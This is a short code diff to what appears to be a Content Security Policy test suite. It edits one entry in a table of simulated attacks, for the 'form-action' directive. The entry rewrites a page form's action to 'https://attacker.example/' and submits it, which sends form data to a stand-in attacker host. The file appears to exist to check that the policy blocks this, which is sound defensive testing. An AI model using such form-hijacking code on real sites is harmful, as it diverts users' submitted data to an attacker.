@@ -45,8 +45,9 @@ const attacks: Record<string, Attack> = {
     path: "/contacto/",
     directive: "form-action",
     attack: () => {
-      document.forms[0].action = "https://attacker.example/";
-      document.forms[0].submit();
+      const form = document.forms[0];
+      form?.setAttribute("action", "https://attacker.example/");
+      form?.submit();
     },
   },
   "a form where none belongs": {
